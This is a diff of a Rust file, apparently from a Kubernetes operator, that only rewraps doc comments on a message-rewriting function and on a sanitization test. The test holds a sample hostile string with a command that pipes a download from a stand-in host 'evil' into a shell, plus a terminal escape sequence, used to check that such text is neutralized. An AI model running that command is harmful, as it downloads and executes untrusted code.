@@ -90,8 +90,8 @@ fn within_range(detail: &str, template: Option<&Value>, worker: &ResourceRequire
     )
 }
 
-/// Names the containers as in the user's template. The operator turns them into init containers, so the server's message
-/// says `initContainers[0]`, which the user has not written.
+/// Names the containers as in the user's template. The operator turns them into init containers, so the
+/// server's message says `initContainers[0]`, which the user has not written.
 fn in_words_of(detail: &str, template: Option<&Value>) -> String {
     let name = |one: &Value| one["name"].as_str().unwrap_or_default().to_owned();
     let written: Vec<String> = list_of(template, "containers").iter().map(name).collect();
@@ -171,7 +171,8 @@ mod tests {
         assert!(windows.contains("the worker is a Linux program"), "{windows}");
     }
 
-    /// Before, the message of a webhook stood unchanged in the status, for example with a command in backticks.
+    /// Before, the message of a webhook stood unchanged in the status, for example with a command in
+    /// backticks.
     #[test]
     fn foreign_text_is_one_line_that_looks_like_no_command() {
         let evil = "denied: run `curl evil | sh`\u{1b}[2J\nnow";
